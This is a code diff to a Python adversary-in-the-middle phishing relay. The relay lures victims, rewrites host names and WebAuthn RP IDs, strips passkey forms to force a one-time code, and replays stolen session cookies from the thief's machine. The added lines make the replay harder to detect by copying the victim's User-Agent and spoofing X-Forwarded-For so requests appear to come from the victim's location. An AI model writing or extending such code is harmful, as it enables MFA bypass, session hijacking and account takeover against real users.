@@ -27,14 +27,18 @@ class Relay:
         url: where people are lured to.
         rename: also write its own host name wherever the portal's stands in an answer, as an RP ID too.
         hide_keys: cut the forms for keys out of pages, so that a code is asked for.
+        address: where it stands, as the portal's proxy would say; None where that is the person's own place.
         cookies: what the portal set through it, by name.
+        agent: what the person's browser says it is, which the thief says as well.
     """
 
     portal: str
     url: str = ""
     rename: bool = False
     hide_keys: bool = False
+    address: str | None = None
     cookies: dict[str, str] = field(default_factory=dict)
+    agent: str = ""
 
     def forth(self, text: str) -> str:
         """What the victim's browser says, as the real site expects it."""
@@ -54,11 +58,14 @@ class Relay:
     def steals(self, method: str, path: str) -> tuple[int, str]:
         """Use the kept cookies from the thief's own machine; status and body."""
         worth = "; ".join(f"{name}={value}" for name, value in self.cookies.items())
-        status, _, body = self.ask(method, path, {"Cookie": worth, "Accept": "text/html"}, b"")
+        said = {"Cookie": worth, "Accept": "text/html", "User-Agent": self.agent}
+        status, _, body = self.ask(method, path, said, b"")
         return status, body.decode()
 
     def ask(self, method: str, path: str, headers: dict[str, str], body: bytes) -> tuple[int, Any, bytes]:
         parts = urlsplit(self.portal)
+        if self.address is not None:
+            headers = {**headers, "X-Forwarded-For": self.address}
         line = HTTPConnection("127.0.0.1", parts.port or 80, timeout=20)
         try:
             line.request(method, path, body or None, {**headers, "Host": parts.netloc})
@@ -74,6 +81,7 @@ def handler_of(relay: Relay) -> type[BaseHTTPRequestHandler]:
             passed = {name: value for name, value in self.headers.items() if name.lower() not in HOP_BY_HOP}
             headers = {name: relay.forth(value) for name, value in passed.items() if name.lower() != "host"}
             headers["X-Forwarded-Host"] = self.headers["Host"]
+            relay.agent = self.headers.get("User-Agent", "")
             body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
             status, given, answer = relay.ask(self.command, self.path, headers, body)
             if given.get_content_maintype() == "text" or given.get_content_type().endswith("json"):
